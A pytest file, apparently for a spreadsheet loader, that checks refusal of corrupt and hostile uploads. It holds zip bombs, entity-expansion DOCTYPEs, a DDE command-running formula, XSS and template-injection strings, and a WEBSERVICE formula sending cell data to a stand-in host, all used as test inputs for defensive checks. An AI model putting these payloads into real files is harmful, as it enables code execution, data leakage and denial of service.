"""Broken and hostile files: a clear refusal, in bounded memory and without hanging."""

import io
import random
import re
import subprocess
import sys
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import xlsxwriter

from loaders.check import check
from loaders.findings import Unreadable
from loaders.read import MAX_BYTES, read, safety
from loaders.read.safety import open_package
from tests.builders.packages import packed, repacked
from tests.builders.spreadsheets import CATALOGUE, TODAY, book, checked, codes, lines, only
from tests.loaders.gigantic import GIGANTIC

pytestmark = pytest.mark.slow

OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@pytest.fixture
def _in_memory() -> Iterator[None]:
    """A file of some megabytes is dealt with in tens of them, and not in hundreds."""
    tracemalloc.start()
    yield
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 60_000_000, f"{peak / 1e6:.0f} MB"


def refusal(content: bytes, name: str = "a.xlsx") -> str:
    """The code of the finding that refuses a file."""
    with pytest.raises(Unreadable) as error:
        read(content, name)
    assert error.value.finding.severity == "este"
    return error.value.finding.code


def with_rows(rows: str) -> bytes:
    """A workbook whose sheet holds this XML."""
    sheet = f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    return repacked(book(["A"]), "xl/worksheets/sheet1.xml", lambda _: sheet.encode())


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (b"", "a.xlsx", "tyhjä-tiedosto"),
        (b"\n\n ;\n", "a.csv", "tyhjä-tiedosto"),
        (b"%PDF-1.7 ...", "a.xlsx", "ei-taulukkotiedosto"),
        (b"\x89PNG\r\n", "a.png", "ei-taulukkotiedosto"),
        (b"A;B", "a.docx", "ei-taulukkotiedosto"),
        (b"A;B", "seuranta", "ei-taulukkotiedosto"),
        (b"A;B", "a.xlsx", "väärä-pääte"),
        (OLE2 + b"\0" * 600, "a.xls", "vanha-xls"),
        (OLE2 + "EncryptedPackage".encode("utf-16-le"), "a.xlsx", "salattu"),
        (b"\x00\x01\x02\x03 A;B", "a.csv", "ei-tekstiä"),
        (bytes(range(256)) * 4, "a.csv", "ei-tekstiä"),
        (b"PK\x03\x04" + b"x" * 200, "a.xlsx", "vioittunut"),
        (packed(a=b"x"), "a.xlsx", "ei-taulukkotiedosto"),
        (packed(**{"word/document.xml": b"x"}), "a.xlsx", "ei-taulukkotiedosto"),
        (packed(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"), "a.xlsx", "ei-taulukkotiedosto"),
        (packed(**{"xl/workbook.xml": b"<x/>"}), "a.xlsx", "vioittunut"),
    ],
)
def test_what_is_no_spreadsheet_is_refused(content: bytes, name: str, code: str) -> None:
    assert refusal(content, name) == code


def test_a_workbook_under_a_wrong_name_is_refused() -> None:
    assert refusal(book(["A"]), "a.csv") == "väärä-pääte"


def test_a_file_that_is_too_large_is_refused() -> None:
    assert refusal(b"A;B\n" * (MAX_BYTES // 4 + 1), "a.csv") == "liian-suuri"


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.99])
def test_a_truncated_workbook_is_refused(share: float) -> None:
    content = book(*[["Mittari", i] for i in range(100)])
    assert refusal(content[: int(len(content) * share)]) == "vioittunut"


def test_a_workbook_with_changed_bytes_is_refused_or_read_but_never_breaks() -> None:
    content = bytearray(book(["Mittari", "kevät 2021"], ["A", 5]))
    for place in range(0, len(content), 7):
        changed = bytes(content[:place]) + bytes([content[place] ^ 0x55]) + bytes(content[place + 1 :])
        try:
            check(changed, "a.xlsx", CATALOGUE, today=TODAY)
        except Unreadable as error:
            assert error.finding.message


def test_a_zip_bomb_is_refused_before_it_is_opened() -> None:
    assert refusal(packed(**{"xl/workbook.xml": b"<x/>", "xl/sharedStrings.xml": b"0" * 200_000_000})) == "zip-pommi"
    assert refusal(packed(**{"xl/workbook.xml": b"<x/>", "xl/sharedStrings.xml": b"0" * 20_000_000})) == "zip-pommi"


def test_a_part_that_holds_more_than_it_declares_is_refused() -> None:
    content = bytearray(book(*[["Mittari", i] for i in range(100)]))
    name = b"xl/worksheets/sheet1.xml"
    directory = content.rindex(name) - 46  # its entry in the central directory; the unpacked size is at 24
    content[directory + 24 : directory + 28] = (100).to_bytes(4, "little")
    assert refusal(bytes(content)) == "vioittunut"


@pytest.mark.parametrize(
    "part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"]
)
def test_entities_are_refused_in_every_part(part: str) -> None:
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as workbook:  # openpyxl writes no shared strings
        workbook.add_worksheet().write("A1", "Mittari")
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'

    def change(content: bytes) -> bytes:
        head, end, rest = content.partition(b"?>")
        return head + end + laughs + rest if end else laughs + content

    assert refusal(repacked(content.getvalue(), part, change)) == "kielletty-rakenne"


@pytest.mark.parametrize(
    "part", ["xl/drawings/vmlDrawing1.vml", "customXml/item1.xml", "xl/query.bin", "muistio", "docProps/app.xml"]
)
@pytest.mark.parametrize("doctype", ["<!DOCTYPE x>", '<!DOCTYPE x SYSTEM "x.dtd">', '<!DOCTYPE x [<!ENTITY a "ha">]>'])
def test_a_document_type_is_refused_in_parts_that_nothing_parses_too(part: str, doctype: str) -> None:
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book(["A"]))) as source, zipfile.ZipFile(content, "w") as target:
        for name in source.namelist():
            if name != part:
                target.writestr(name, source.read(name))
        target.writestr(part, f"{doctype}<x/>")
    with pytest.raises(Unreadable) as error:
        open_package(content.getvalue())
    assert error.value.finding.code == "kielletty-rakenne"


@pytest.mark.parametrize("part", ["xl/media/image1.png", "xl/vbaProject.bin", "xl/tyhja.xml"])
def test_parts_that_are_no_xml_and_empty_parts_are_let_be(part: str) -> None:
    content = io.BytesIO(book(["A"]))
    with zipfile.ZipFile(content, "a") as package:
        package.writestr(part, b"" if part.endswith("xml") else b"\x89PNG <!DOCTYPE" + b"\xff" * 2_000_000)
    assert read(content.getvalue(), "a.xlsx").sheets[0].rows


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "iso-8859-1"])
def test_entities_are_refused_in_every_encoding(encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY a "ha">]><workbook xmlns="{MAIN}"/>'
    changed = repacked(book(["A"]), "xl/workbook.xml", lambda _: text.encode(encoding))
    assert refusal(changed) in ("kielletty-rakenne", "vioittunut")


def test_entities_behind_a_long_comment_are_refused() -> None:
    def change(content: bytes) -> bytes:
        return b"<!-- " + b"x" * 2_000_000 + b' --><!DOCTYPE x [<!ENTITY a "ha">]>' + content

    assert refusal(repacked(book(["A"]), "xl/workbook.xml", change)) == "kielletty-rakenne"


def broken_xml(part: bytes, chance: random.Random) -> bytes:
    """A part with one flaw: cut short, a tag gone or doubled, another byte, an attribute or a text of nonsense."""
    tags = [found.span() for found in re.finditer(rb"<[^>]*>", part)]
    values = [found.span(1) for found in re.finditer(rb"=\"([^\"]*)\"|>([^<]+)<", part) if found[1]]
    start, end = chance.choice(tags)
    match chance.randrange(4):
        case 0:
            return part[: chance.randrange(len(part))]
        case 1:
            return part[:start] + part[end:]
        case 2:
            return part[:end] + part[start:]
    start, end = chance.choice(values)
    return part[:start] + chance.choice([b"", b"-1", b"x", b"NaN", b"1e400", b"99999999999", b"A1:", b"e"]) + part[end:]


@pytest.mark.parametrize("seed", range(10))
def test_a_workbook_of_broken_xml_is_refused_or_read_but_never_breaks(seed: int) -> None:
    chance = random.Random(seed)
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as workbook:
        sheet = workbook.add_worksheet()
        for row, cells in enumerate([["Mittari", "Jakso", "Arvo"], ["Käynnit", "3/2025", 5]]):
            sheet.write_row(row, 0, cells)
        sheet.merge_range("A3:A4", "x")
        sheet.write("C3", 0.45, workbook.add_format({"num_format": "0 %"}))
    parts = zipfile.ZipFile(content).namelist()
    for _ in range(60):
        changed = repacked(content.getvalue(), chance.choice(parts), lambda part: broken_xml(part, chance))
        try:
            checked(changed, "a.xlsx")
        except Unreadable as error:
            assert error.finding.message


def rows_of_air(count: int) -> bytes:
    empty = "".join(f'<row r="{row}" ht="15" customHeight="1"/>' for row in range(2, count))
    return with_rows(f'<row r="1"><c r="A1" t="inlineStr"><is><t>A</t></is></c></row>{empty}')


def test_a_million_empty_rows_make_no_rows() -> None:
    assert list(read(rows_of_air(1_000_000), "a.xlsx").sheets[0].rows) == [1]


def test_empty_rows_take_no_memory(_in_memory: None) -> None:
    assert list(read(rows_of_air(100_000), "a.xlsx").sheets[0].rows) == [1]


def test_empty_cells_with_a_style_are_no_content() -> None:
    styled = "".join(f'<row r="{row}"><c r="XFD{row}" s="0"/></row>' for row in range(2, 100_000))
    found = read(with_rows(f'<row r="1"><c r="A1"><v>5</v></c></row>{styled}'), "a.xlsx")
    assert list(found.sheets[0].rows) == [1]


def test_the_declared_dimension_is_not_trusted() -> None:
    def change(content: bytes) -> bytes:
        return content.replace(b'ref="A1"', b'ref="A1:XFD1048576"')

    found = read(repacked(book(["A"]), "xl/worksheets/sheet1.xml", change), "a.xlsx")
    assert list(found.sheets[0].rows) == [1]


@pytest.mark.parametrize(
    "rows",
    [
        '<row r="1048576"><c r="A1048576"><v>5</v></c></row>',
        '<row r="1"><c r="XFD1"><v>5</v></c></row>',
    ],
)
def test_content_far_out_is_refused(rows: str) -> None:
    assert refusal(with_rows(rows)) == "liian-laaja"


@pytest.mark.parametrize(
    "rows",
    [
        '<row r="x"><c r="A1"><v>5</v></c></row>',
        '<row r="1"><c r="A0"><v>5</v></c></row>',
        '<row r="1"><c r="A2"><v>5</v></c></row>',
        '<row r="99999999999"><c r="A1"><v>5</v></c></row>',
        '<row r="1"><c r="!!"><v>5</v></c></row>',
        '<row r="1"><c r="A1" t="s"><v>77</v></c></row>',
        '<row r="1"><c r="A1"><v>viisi</v></c></row>',
        '<row r="1"><c r="A1" s="99"><v>5</v></c></row>',
        '<row r="1"><c r="A1"><v>5</v></c>',
    ],
)
def test_a_broken_sheet_is_refused(rows: str) -> None:
    assert refusal(with_rows(rows)) == "vioittunut"


def test_a_number_that_is_none_is_refused() -> None:
    assert refusal(with_rows('<row r="1"><c r="A1"><v>1e999</v></c></row>')) == "vioittunut"
    assert refusal(with_rows('<row r="1"><c r="A1"><v>nan</v></c></row>')) == "vioittunut"


def test_too_many_rows_columns_and_cells_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    assert refusal(b"A\n" * (safety.MAX_ROWS + 1), "a.csv") == "liian-laaja"
    assert refusal(b";".join([b"A"] * (safety.MAX_COLUMNS + 1)), "a.csv") == "liian-laaja"
    monkeypatch.setattr(safety, "MAX_CELLS", 60_000)
    wide = b";".join([b"A"] * safety.MAX_COLUMNS) + b"\n"
    assert read(wide * (safety.MAX_CELLS // safety.MAX_COLUMNS), "a.csv").sheets
    assert refusal(wide * (safety.MAX_CELLS // safety.MAX_COLUMNS + 1), "a.csv") == "liian-laaja"


def test_a_table_that_would_make_too_many_blanks_is_refused() -> None:
    headings = ";".join(["Mittari", *(f"{year}" for year in range(1950, 2090))])
    with pytest.raises(Unreadable) as error:
        checked(lines(headings, *["A;5"] * (safety.MAX_VALUES // 140 + 1)))
    assert error.value.finding.code == "liian-laaja"


def test_findings_of_a_kind_are_told_up_to_a_number() -> None:
    result = checked(lines("Mittari;Jakso;Arvo", *[f"Käynnit;2021;virhe {i}" for i in range(1000)]))
    assert codes(result).count("ei-luku") == 200
    more = [finding for finding in result.findings if finding.code == "lisää-samoja"]
    assert [(finding.severity, finding.expected) for finding in more] == [("este", "800")]


# Small to send and large to read: each in a process of its own

BOUND = 250  # megabytes at the peak, of which 60–80 are the interpreter with its libraries


@pytest.fixture(scope="module")
def costs() -> dict[str, tuple[int, str]]:
    """What `python -m tests.loaders.gigantic` prints: megabytes and codes of each file."""
    root = Path(__file__).parents[3]
    command = [sys.executable, "-m", "tests.loaders.gigantic"]
    printed = subprocess.run(command, cwd=root, capture_output=True, text=True, check=True).stdout
    found = re.findall(r"(.+?) +([0-9]+) MB +[0-9.]+ s +[0-9.]+ MB sent  (.+)", printed)
    return {name: (int(megabytes), told) for name, megabytes, told in found}


@pytest.mark.parametrize("name", GIGANTIC)
def test_a_gigantic_file_is_dealt_with_in_bounded_time_and_memory(name: str, costs: dict[str, tuple[int, str]]) -> None:
    megabytes, told = costs[name]
    assert GIGANTIC[name][0] in told.split()
    assert megabytes < BOUND


# What must stay text


HOSTILE_TEXTS = (
    "=cmd|'/c calc'!A1",
    "+SUM(1;1)",
    "@SUM(A1)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[linkki](javascript:alert(1))",
    "{{7*7}}",
    "{actual}",
)


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
@pytest.mark.parametrize("as_text", [True, False])
def test_hostile_text_stays_text(text: str, as_text: bool) -> None:
    content = io.BytesIO()
    with xlsxwriter.Workbook(content, {"strings_to_formulas": False, "strings_to_urls": False}) as workbook:
        sheet = workbook.add_worksheet("Seuranta")
        for row, cells in enumerate((["Mittari", "Jakso", "Arvo", "Huomautus"], [text, "3/2025", "5", text])):
            for column, cell in enumerate(cells):
                sheet.write_string(row, column, cell)
    result = checked(
        lines("Mittari;Jakso;Arvo;Huomautus", f"{text};3/2025;5;{text}") if as_text else content.getvalue()
    )
    if as_text and ";" in text:
        assert result.stops  # its own separator has torn the row apart
        return
    (one,) = result.observations
    assert (one.indicator, one.note, one.value) == (text, text, 5)
    assert only(result, "tuntematon-mittari").actual == text and text in only(result, "tuntematon-mittari").message


def test_a_formula_counts_by_its_stored_value_and_is_never_run() -> None:
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as workbook:
        sheet = workbook.add_worksheet("Seuranta")
        sheet.write_row(0, 0, ["Mittari", "2025"])
        sheet.write_row(1, 0, ["Käynnit"])
        sheet.write_formula(1, 1, '=WEBSERVICE("https://example.invalid/"&A1)', None, 7)
    (one,) = checked(content.getvalue()).observations
    assert (one.value, one.place.as_printed) == (7, "7")


def test_links_to_other_files_are_not_followed() -> None:
    target = "file:///nowhere/else.xlsx"
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kinds = "http://schemas.openxmlformats.org/package/2006/relationships"

    def link(part: bytes) -> bytes:
        more = f'<Relationship Id="rId99" Type="{relation}/externalLink" Target="externalLinks/externalLink1.xml"/>'
        return part.replace(b"</Relationships>", more.encode() + b"</Relationships>")

    changed = repacked(book(["Mittari", "2025"], ["Käynnit", 5]), "xl/_rels/workbook.xml.rels", link)
    with io.BytesIO(changed) as file:
        with zipfile.ZipFile(file, "a") as package:
            package.writestr("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{MAIN}"/>')
            package.writestr(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                f'<Relationships xmlns="{kinds}"><Relationship Id="rId1" Type="{relation}/externalLinkPath" '
                f'Target="{target}" TargetMode="External"/></Relationships>',
            )
        content = file.getvalue()
    assert [one.value for one in checked(content).observations] == [5]


def test_no_message_shows_a_control_character() -> None:
    result = checked(lines("Mittari;Jakso;Arvo", "Uusi\u202e\u2028nimi;3/2025;vi\u200bisi\x85"))
    assert [one for one in result.findings if not one.message.isprintable()] == []
